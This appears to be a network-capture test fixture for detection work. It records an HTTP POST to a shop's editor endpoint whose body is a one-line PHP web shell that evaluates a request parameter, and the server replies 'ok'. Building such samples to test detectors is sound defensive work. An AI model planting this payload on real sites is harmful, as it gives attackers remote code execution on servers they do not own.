# PHP one-liner that evaluates a parameter.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /editor/save HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: text/plain\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 22\r\n
\r\n
\x3c?=@eval($_POST["x"]);

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
